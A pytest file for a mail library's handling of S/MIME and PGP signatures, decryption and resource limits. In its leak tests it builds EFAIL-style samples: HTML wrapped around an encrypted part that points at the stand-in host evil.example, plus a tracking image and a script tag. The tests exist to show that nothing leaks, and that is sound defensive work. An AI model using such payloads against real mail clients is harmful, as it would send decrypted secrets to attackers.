"""Signed and encrypted mails: who signed them, what they hold, and that nothing of them leaves the house."""

import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import (
    BestAvailableEncryption,
    Encoding,
    NoEncryption,
    PrivateFormat,
    pkcs12,
)

from hauspost.ground.mail import _limited
from hauspost.ground.mail.letter import nested_letter, read_letter
from hauspost.ground.mail.sealed import (
    Opened,
    PgpKey,
    SmimeKey,
    Trust,
    open_letter,
    read_pgp_key,
    read_smime_key,
    signature_as_dict,
)
from hauspost.ground.mail.sealed_words import REASONS, NotAKey, reason_in_words, signature_in_words

NOW = datetime.now(UTC)
WORDS = b"Content-Type: text/plain; charset=utf-8\r\n\r\nDer Zugangscode lautet 4711.\r\n"
HTML = b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Geheim ist <b>4711</b>.</p>\r\n"


def run(folder: Path, *arguments: str, stdin: bytes = b"") -> bytes:
    done = subprocess.run(arguments, cwd=folder, input=stdin, capture_output=True, check=False)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


@dataclass
class Post:
    """A certificate authority, a person with a certificate and a PGP key, and a mailbox with both."""

    folder: Path

    @property
    def trust(self) -> Trust:
        return Trust(self.folder / "ca.pem", (self.public("ada"),))

    def public(self, who: str) -> str:
        return run(self.folder, *GPG, "--armor", "--export", f"{who}@example.org").decode()

    @property
    def smime_key(self) -> SmimeKey:
        return SmimeKey((self.folder / "box.pem").read_text(), (self.folder / "box.key").read_text())

    @property
    def pgp_key(self) -> PgpKey:
        return PgpKey(run(self.folder, *GPG, "--armor", "--export-secret-keys", "box@example.org").decode())

    def smime_signature(self, content: bytes, *more: str, who: str = "ada") -> bytes:
        signing = (
            "openssl",
            "cms",
            "-sign",
            "-binary",
            "-outform",
            "DER",
            "-signer",
            f"{who}.pem",
            "-inkey",
            f"{who}.key",
        )
        return run(self.folder, *signing, *more, stdin=content)

    def smime_envelope(self, content: bytes, cipher: str = "-aes256") -> bytes:
        return run(
            self.folder, "openssl", "cms", "-encrypt", "-binary", "-outform", "DER", cipher, "box.pem", stdin=content
        )

    def pgp(self, content: bytes, *how: str) -> bytes:
        return run(self.folder, *GPG, "--armor", "--local-user", "ada@example.org", *how, stdin=content)


GPG = (
    "gpg",
    "--homedir",
    ".",
    "--batch",
    "--quiet",
    "--trust-model",
    "always",
    "--pinentry-mode",
    "loopback",
    "--passphrase",
    "",
)


@pytest.fixture(scope="session")
def post(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Post]:
    # A path short enough for the socket of gpg's agent.
    with _limited.workplace() as folder:
        ca = certificate(folder, "ca", "Firma CA")
        certificate(folder, "ada", "Ada Brand", "ada@example.org", by=ca)
        certificate(folder, "box", "IT-Hilfe", "it@example.org", by=ca)
        certificate(folder, "old", "Ada Brand", "ada@example.org", by=ca, days=-10)
        certificate(folder, "alone", "Ada Brand", "ada@example.org")
        for who in ("Ada Brand <ada@example.org>", "IT-Hilfe <box@example.org>"):
            run(folder, *GPG, "--quick-gen-key", who, "future-default", "default", "1y")
        yield Post(folder)
        run(folder, "gpgconf", "--homedir", ".", "--kill", "gpg-agent")


Authority = tuple[x509.Certificate, ec.EllipticCurvePrivateKey]


def certificate(
    folder: Path, file: str, name: str, address: str = "", *, by: Authority | None = None, days: int = 30
) -> Authority:
    key = ec.generate_private_key(ec.SECP256R1()) if file != "box" else rsa.generate_private_key(65537, 2048)
    subject = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, name)])
    made = (
        x509.CertificateBuilder()
        .subject_name(subject)
        .issuer_name(by[0].subject if by else subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(NOW - timedelta(days=60))
        .not_valid_after(NOW + timedelta(days=days))
        .add_extension(x509.BasicConstraints(ca=not address, path_length=None), critical=True)
    )
    if address:
        made = made.add_extension(x509.SubjectAlternativeName([x509.RFC822Name(address)]), critical=False)
    signed = made.sign(by[1] if by else key, hashes.SHA256())
    (folder / f"{file}.pem").write_bytes(signed.public_bytes(Encoding.PEM))
    (folder / f"{file}.key").write_bytes(key.private_bytes(Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()))
    return signed, key  # type: ignore[return-value]


HEAD = b"From: Ada Brand <%s>\r\nTo: it@example.org\r\nSubject: Zugang\r\nMIME-Version: 1.0\r\n"


def mail(body: bytes, sender: bytes = b"ada@example.org") -> bytes:
    return HEAD % sender + body


def part(kind: bytes, content: bytes, more: bytes = b"") -> bytes:
    import base64

    return (
        b"Content-Type: "
        + kind
        + b"\r\nContent-Transfer-Encoding: base64\r\n"
        + more
        + b"\r\n"
        + base64.encodebytes(content)
    )


def together(kind: bytes, *parts: bytes) -> bytes:
    return (
        b"Content-Type: multipart/"
        + kind
        + b"; boundary=b\r\n\r\n--b\r\n"
        + b"\r\n--b\r\n".join(parts)
        + b"\r\n--b--\r\n"
    )


def smime_signed(post: Post, content: bytes = WORDS, who: str = "ada") -> bytes:
    signature = part(b"application/pkcs7-signature; name=smime.p7s", post.smime_signature(content, who=who))
    return together(b'signed; protocol="application/pkcs7-signature"; micalg=sha-256', content, signature)


def smime_encrypted(post: Post, content: bytes = WORDS, cipher: str = "-aes256") -> bytes:
    return part(
        b"application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", post.smime_envelope(content, cipher)
    )


def pgp_signed(post: Post, content: bytes = WORDS) -> bytes:
    signature = b"Content-Type: application/pgp-signature\r\n\r\n" + post.pgp(content, "--detach-sign")
    return together(b'signed; protocol="application/pgp-signature"; micalg=pgp-sha512', content, signature)


def pgp_encrypted(post: Post, content: bytes = WORDS, *how: str, kind: bytes = b"encrypted") -> bytes:
    message = post.pgp(content, "--recipient", "box@example.org", *how, "--encrypt")
    version = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
    return together(kind, version, b"Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" + message)


class TestSignedBySmime:
    def test_a_good_signature_names_its_signer(self, post: Post):
        """P22.5"""
        opened = open_letter(mail(smime_signed(post)), trust=post.trust)
        found = opened.signature
        assert found
        assert (found.kind, found.state, found.signer_name, found.signer_address) == (
            "smime",
            "valid",
            "Ada Brand",
            "ada@example.org",
        )
        assert (found.matches_sender, found.issuer, found.covers_all, found.reason) == (True, "Firma CA", True, "")
        assert found.not_after and found.not_after > NOW
        assert opened.letter.text == "Der Zugangscode lautet 4711."
        assert signature_as_dict(found)["not_after"] == found.not_after.isoformat()
        assert signature_in_words(found.state, found.signer_address) == "Signed by ada@example.org"

    def test_line_ends_that_the_way_changed_do_not_break_it(self, post: Post):
        found = open_letter(mail(smime_signed(post)).replace(b"\r\n", b"\n"), trust=post.trust).signature
        assert found and found.state == "valid"

    def test_a_changed_word_is_found(self, post: Post):
        found = open_letter(mail(smime_signed(post)).replace(b"4711", b"0815"), trust=post.trust).signature
        assert found and (found.state, found.reason) == ("broken", "changed")

    def test_a_good_signature_of_somebody_else_is_shown_as_such(self, post: Post):
        opened = open_letter(mail(smime_signed(post), sender=b"chef@example.org"), trust=post.trust)
        assert opened.signature and (opened.signature.state, opened.signature.matches_sender) == ("valid", False)

    def test_one_of_two_senders_is_none(self, post: Post):
        raw = mail(smime_signed(post)).replace(b"From: ", b"From: chef@example.org, ")
        found = open_letter(raw, trust=post.trust).signature
        assert found and not found.matches_sender

    @pytest.mark.parametrize(("who", "reason"), [("alone", "unknown_issuer"), ("old", "expired")])
    def test_whom_nobody_vouches_for_is_not_trusted(self, post: Post, who: str, reason: str):
        found = open_letter(mail(smime_signed(post, who=who)), trust=post.trust).signature
        assert found and (found.state, found.reason, found.signer_address) == ("untrusted", reason, "ada@example.org")

    def test_a_certificate_counts_when_the_mail_came(self, post: Post):
        found = open_letter(
            mail(smime_signed(post, who="old")), trust=post.trust, at=NOW - timedelta(days=20)
        ).signature
        assert found and found.state == "valid"

    def test_a_folder_of_anchors_is_trusted_and_the_systems_store_otherwise(self, post: Post, tmp_path: Path):
        (tmp_path / "firma.crt").write_bytes((post.folder / "ca.pem").read_bytes())
        (tmp_path / "README").write_text("nothing")
        raw = mail(smime_signed(post))
        states = [
            open_letter(raw, trust=trust).signature for trust in (Trust(tmp_path), Trust(), Trust(tmp_path / "none"))
        ]
        assert [one.state for one in states if one] == ["valid", "untrusted", "untrusted"]

    def test_words_beside_what_was_signed_are_not_signed(self, post: Post):
        """A list's footer, or somebody's lie above a colleague's signed words."""
        above = b"Content-Type: text/plain\r\n\r\nBitte sofort zahlen."
        signed = smime_signed(post).replace(b"boundary=b", b"boundary=c").replace(b"--b", b"--c")
        found = open_letter(mail(together(b"mixed", above, signed)), trust=post.trust).signature
        assert found and (found.state, found.covers_all) == ("valid", False)
        third = smime_signed(post).replace(b"\r\n--b--", b"\r\n--b\r\n\r\nUnsigniert\r\n--b--")
        found = open_letter(mail(third), trust=post.trust).signature
        assert found and not found.covers_all

    def test_an_opaque_signature_shows_what_openssl_saw(self, post: Post):
        signed = post.smime_signature(HTML, "-nodetach")
        opened = open_letter(
            mail(part(b"application/pkcs7-mime; smime-type=signed-data; name=smime.p7m", signed)), trust=post.trust
        )
        assert opened.signature and opened.signature.state == "valid"
        assert opened.letter.html == "<p>Geheim ist <b>4711</b>.</p>\n"
        assert opened.letter.subject == "Zugang"
        by_name = open_letter(mail(part(b"application/octet-stream; name=smime.p7m", signed)), trust=post.trust)
        assert by_name.signature and by_name.signature.state == "valid"

    def test_junk_in_place_of_a_signature_is_said(self, post: Post):
        raw = mail(together(b"signed", WORDS, part(b"application/pkcs7-signature", b"no signature at all")))
        found = open_letter(raw, trust=post.trust).signature
        assert found and (found.state, found.reason) == ("cannot_check", "damaged")


class TestSignedByPgp:
    def test_a_good_signature_names_its_signer(self, post: Post):
        """P22.5"""
        found = open_letter(mail(pgp_signed(post)), trust=post.trust).signature
        assert found
        assert (found.kind, found.state, found.signer_name, found.signer_address) == (
            "pgp",
            "valid",
            "Ada Brand",
            "ada@example.org",
        )
        assert found.matches_sender and len(found.fingerprint) == 40 and found.not_after

    def test_a_changed_word_is_found(self, post: Post):
        found = open_letter(mail(pgp_signed(post)).replace(b"4711", b"0815"), trust=post.trust).signature
        assert found and (found.state, found.reason) == ("broken", "changed")

    def test_an_unknown_key_is_said(self, post: Post):
        found = open_letter(mail(pgp_signed(post)), trust=Trust()).signature
        assert found and (found.state, found.matches_sender) == ("unknown_key", False)

    def test_a_text_signed_in_itself(self, post: Post):
        text = post.pgp("Grüße, 4711.\n".encode(), "--clear-sign")
        head = b"Content-Type: text/plain; charset=utf-8\r\n\r\n"
        opened = open_letter(mail(head + text), trust=post.trust)
        assert opened.signature and (opened.signature.state, opened.signature.covers_all) == ("valid", True)
        assert opened.letter.text == "Grüße, 4711."
        partly = open_letter(mail(head + b"Bitte zahlen.\n\n" + text), trust=post.trust)
        assert partly.signature and not partly.signature.covers_all
        assert partly.letter.text.startswith("Bitte zahlen.")


class TestEncrypted:
    @pytest.mark.parametrize("cipher", ["-aes256", "-aes-256-gcm", "-des3"])
    def test_smime_opens_with_the_mailboxes_key(self, post: Post, cipher: str):
        """P22.5: enveloped and, where openssl can, authenticated enveloped data."""
        opened = open_letter(mail(smime_encrypted(post, cipher=cipher)), [post.pgp_key, post.smime_key])
        assert (opened.letter.text, opened.decrypted, opened.note) == ("Der Zugangscode lautet 4711.", "smime", "")
        assert (opened.letter.subject, opened.letter.sender and opened.letter.sender.address) == (
            "Zugang",
            "ada@example.org",
        )
        assert not opened.letter.has_encrypted

    def test_a_signature_inside_is_checked(self, post: Post):
        opened = open_letter(mail(smime_encrypted(post, smime_signed(post))), [post.smime_key], post.trust)
        assert opened.signature and (opened.signature.state, opened.decrypted) == ("valid", "smime")
        assert opened.letter.text == "Der Zugangscode lautet 4711."
        opaque = part(b"application/pkcs7-mime; smime-type=signed-data", post.smime_signature(WORDS, "-nodetach"))
        opened = open_letter(mail(smime_encrypted(post, opaque)), [post.smime_key], post.trust)
        assert opened.signature and (opened.signature.state, opened.letter.text) == (
            "valid",
            "Der Zugangscode lautet 4711.",
        )

    @pytest.mark.parametrize("kind", [b"encrypted", b"mixed"])
    def test_pgp_opens_with_the_mailboxes_key(self, post: Post, kind: bytes):
        """P22.5: PGP/MIME, also as some Exchange servers leave it."""
        opened = open_letter(mail(pgp_encrypted(post, WORDS, "--sign", kind=kind)), [post.pgp_key], post.trust)
        assert (opened.letter.text, opened.decrypted, opened.note) == ("Der Zugangscode lautet 4711.", "pgp", "")
        assert opened.signature and (opened.signature.state, opened.signature.matches_sender) == ("valid", True)

    def test_pgp_within_a_text_keeps_the_files_beside_it(self, post: Post):
        text = b"Content-Type: text/plain\r\n\r\n" + post.pgp(
            "Grüße, 4711.".encode(), "--recipient", "box@example.org", "--encrypt"
        )
        raw = mail(together(b"mixed", text, b"Content-Type: text/csv; name=a.csv\r\n\r\n1;2"))
        opened = open_letter(raw, [post.pgp_key])
        assert (opened.letter.text, opened.decrypted) == ("Grüße, 4711.", "pgp")
        assert [file.name for file in opened.letter.attachments] == ["a.csv"]

    def test_without_the_key_there_is_a_note_and_the_file(self, post: Post):
        """P22.5"""
        for raw in (mail(smime_encrypted(post)), mail(pgp_encrypted(post))):
            opened = open_letter(raw)
            assert (opened.note, opened.decrypted, opened.letter.has_encrypted) == ("no_key", "", True)
            assert opened.letter.attachments
            assert "keys opens it" in reason_in_words(opened.note)

    def test_a_subject_that_was_protected_is_the_subject(self, post: Post):
        inner = b'Content-Type: text/plain; protected-headers="v1"\r\nSubject: =?utf-8?q?K=C3=BCndigung?=\r\nFrom: chef@example.org\r\n\r\nx'
        raw = mail(pgp_encrypted(post, inner)).replace(b"Zugang", b"...")
        letter = open_letter(raw, [post.pgp_key]).letter
        assert (letter.subject, letter.from_[0].address) == ("Kündigung", "ada@example.org")
        wrapped = b"Content-Type: message/rfc822\r\n\r\nSubject: Gehalt\r\n\r\nMehr."
        letter = open_letter(mail(smime_encrypted(post, wrapped)), [post.smime_key]).letter
        assert (letter.subject, letter.text) == ("Gehalt", "Mehr.")

    def test_damaged_envelopes_stay_closed(self, post: Post):
        """What comes out before the fault is not shown: it may be an attacker's (EFAIL)."""
        for raw, key in (
            (mail(smime_encrypted(post, cipher="-aes-256-gcm")), post.smime_key),
            (mail(pgp_encrypted(post)), post.pgp_key),
        ):
            lines = raw.split(b"\n")
            at = len(lines) - 8
            lines[at] = lines[at][:10] + (b"AAAA" if lines[at][10:14] != b"AAAA" else b"BBBB") + lines[at][14:]
            opened = open_letter(b"\n".join(lines), [key])
            assert (opened.decrypted, opened.note, "4711" in opened.letter.text) == ("", "damaged", False)


class TestNothingLeaks:
    def test_an_encrypted_part_is_never_joined_with_html_around_it(self, post: Post):
        """EFAIL's direct exfiltration: the stranger's open attribute must not swallow what only we can read."""
        before = b'Content-Type: text/html\r\n\r\n<a href="https://evil.example/?'
        after = b'Content-Type: text/html\r\n\r\n">Klick</a><img src="https://evil.example/x">'
        opened = open_letter(mail(together(b"mixed", before, smime_encrypted(post, HTML), after)), [post.smime_key])
        shown = opened.letter.html + opened.letter.visible_html + opened.letter.text + opened.letter.quoted_html
        assert "4711" not in shown
        assert (opened.decrypted, opened.note) == ("smime", "partly")
        alone = nested_letter(opened.letter.attachments[-1])
        assert alone and alone.html == "<p>Geheim ist <b>4711</b>.</p>\n"
        assert opened.letter.attachments[-1].name == "decrypted.eml"

    def test_what_was_decrypted_loads_nothing(self, post: Post):
        """S3: its HTML is as hostile as any other."""
        html = b'Content-Type: text/html\r\n\r\n<p>4711</p><img src="https://evil.example/t.png"><script>x()</script>'
        letter = open_letter(mail(smime_encrypted(post, html)), [post.smime_key]).letter
        assert "4711" in letter.html
        assert "evil.example/t" not in letter.html and "script" not in letter.html

    def test_pgp_amid_other_words_is_not_quoted_with_them(self, post: Post):
        message = post.pgp(b"4711", "--recipient", "box@example.org", "--encrypt")
        raw = mail(b"Content-Type: text/plain\r\n\r\nBitte antworten.\n\n" + message)
        opened = open_letter(raw, [post.pgp_key])
        assert "4711" not in opened.letter.text
        alone = nested_letter(opened.letter.attachments[-1])
        assert alone and (alone.text, opened.note) == ("4711", "partly")


class TestLimits:
    def test_a_missing_program_is_said(self, post: Post, monkeypatch: pytest.MonkeyPatch):
        """P54: the cause and the next step, no traceback."""
        smime, pgp, signed = mail(smime_encrypted(post)), mail(pgp_encrypted(post)), mail(pgp_signed(post))
        keys = [post.smime_key, post.pgp_key]
        monkeypatch.setenv("PATH", "/nowhere")
        assert [open_letter(raw, keys).note for raw in (smime, pgp)] == ["no_openssl", "no_gpg"]
        found = open_letter(signed, keys).signature
        assert found and (found.state, found.reason) == ("cannot_check", "no_gpg")
        assert reason_in_words("no_gpg").startswith("Cannot be opened here: gpg is not installed.")

    def test_a_program_that_hangs_is_ended(self, post: Post, monkeypatch: pytest.MonkeyPatch, tmp_path: Path):
        """S18: killed on limit."""
        hanging = tmp_path / "openssl"
        hanging.write_text("#!/bin/sh\nexec sleep 1000\n")
        hanging.chmod(0o700)
        raw = mail(smime_encrypted(post))
        key = post.smime_key
        monkeypatch.setenv("PATH", f"{tmp_path}:/usr/bin:/bin")
        monkeypatch.setattr(_limited, "_SECONDS", 0.1)
        assert open_letter(raw, [key]).note == "over_limit"

    def test_a_bomb_inside_stays_closed(self, post: Post, monkeypatch: pytest.MonkeyPatch):
        """S18: what was packed small may not come out big."""
        from hauspost.ground.mail import _pgp

        raw = mail(pgp_encrypted(post, WORDS + b"0" * 5_000_000, "--compress-algo", "zip"))
        assert len(raw) < 100_000
        monkeypatch.setattr(_pgp, "MOST_OUTPUT", 1_000_000)
        opened = open_letter(raw, [post.pgp_key])
        assert (opened.decrypted, bool(opened.note)) == ("", True)

    def test_no_key_stays_behind(self, post: Post, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
        """S21"""
        raw, key = mail(pgp_encrypted(post)), post.pgp_key
        monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
        assert open_letter(raw, [key]).decrypted == "pgp"
        assert list(tmp_path.iterdir()) == []

    def test_an_ordinary_mail_costs_nothing_more(self, monkeypatch: pytest.MonkeyPatch):
        monkeypatch.setenv("PATH", "/nowhere")
        opened = open_letter(mail(WORDS))
        assert opened == Opened(read_letter(mail(WORDS)))


def p12(post: Post, password: bytes = b"geheim") -> bytes:
    key = post.smime_key
    loaded = x509.load_pem_x509_certificate(key.certificate_pem.encode())
    from cryptography.hazmat.primitives.serialization import load_pem_private_key

    private = load_pem_private_key(key.private_key_pem.encode(), None)
    return pkcs12.serialize_key_and_certificates(b"box", private, loaded, None, BestAvailableEncryption(password))  # type: ignore[arg-type]


class TestKeys:
    def test_a_pkcs12_file_gives_the_key(self, post: Post):
        """S21: its password is needed once and is not kept."""
        key, told = read_smime_key(p12(post), "geheim")
        assert (told.kind, told.addresses, len(told.fingerprint)) == ("smime", ("it@example.org",), 64)
        assert told.not_after and told.public == post.smime_key.certificate_pem
        assert open_letter(mail(smime_encrypted(post)), [key]).decrypted == "smime"

    def test_an_old_pkcs12_file_of_windows(self, post: Post):
        old = run(
            post.folder,
            "openssl",
            "pkcs12",
            "-export",
            "-legacy",
            "-in",
            "box.pem",
            "-inkey",
            "box.key",
            "-passout",
            "pass:geheim",
        )
        assert read_smime_key(old, "geheim")[1].addresses == ("it@example.org",)
        assert refused(lambda: read_smime_key(old, "falsch")) == "wrong-password"

    def test_pem_in_any_order(self, post: Post):
        key = post.smime_key
        for text in (key.certificate_pem + key.private_key_pem, key.private_key_pem + key.certificate_pem):
            assert read_smime_key(text.encode())[0] == key

    def test_a_pgp_key_loses_its_password(self, post: Post):
        with _limited.workplace() as folder:
            (folder / "gpg-agent.conf").write_text("s2k-count 65536\n")
            protected = (
                "gpg",
                "--homedir",
                ".",
                "--batch",
                "--quiet",
                "--pinentry-mode",
                "loopback",
                "--passphrase",
                "ge heim",
            )
            run(folder, *protected, "--quick-gen-key", "Lager <lager@example.org>", "future-default", "default", "1y")
            armoured = run(folder, *protected, "--armor", "--export-secret-keys")
            public = run(folder, *protected, "--armor", "--export")
            run(folder, "gpgconf", "--homedir", ".", "--kill", "gpg-agent")
        key, told = read_pgp_key(armoured, "ge heim")
        assert (told.kind, told.addresses, told.public[:36]) == (
            "pgp",
            ("lager@example.org",),
            "-----BEGIN PGP PUBLIC KEY BLOCK-----",
        )
        assert told.not_after and told.not_after > NOW
        assert read_pgp_key(key.armoured.encode())[1].fingerprint == told.fingerprint
        assert refused(lambda: read_pgp_key(armoured, "falsch")) == "wrong-password"
        assert refused(lambda: read_pgp_key(armoured)) == "needs-password"
        assert refused(lambda: read_pgp_key(public)) == "no-private-key"

    def test_what_is_no_key_is_refused_in_words(self, post: Post):
        """P54"""
        key = post.smime_key
        other = (post.folder / "ada.key").read_text()
        assert refused(lambda: read_smime_key(p12(post), "falsch")) == "wrong-password"
        assert refused(lambda: read_smime_key(p12(post))) == "needs-password"
        assert refused(lambda: read_smime_key(b"Hallo")) == "not-a-key"
        assert refused(lambda: read_smime_key(b"\x30\x82" + b"x" * 100)) == "not-a-key"
        assert refused(lambda: read_smime_key(key.certificate_pem.encode())) == "no-private-key"
        assert refused(lambda: read_smime_key(key.private_key_pem.encode())) == "no-certificate"
        assert refused(lambda: read_smime_key((key.certificate_pem + other).encode())) == "other-certificate"
        assert refused(lambda: read_pgp_key(b"Hallo")) == "not-a-key"
        assert str(NotAKey("wrong-password")) == "The password does not open this key. Check it and try again."


def refused(do: Callable[[], object]) -> str:
    with pytest.raises(NotAKey) as told:
        do()
    return told.value.code


def test_every_reason_has_words():
    assert all(str(words).endswith(".") for words in REASONS.values())
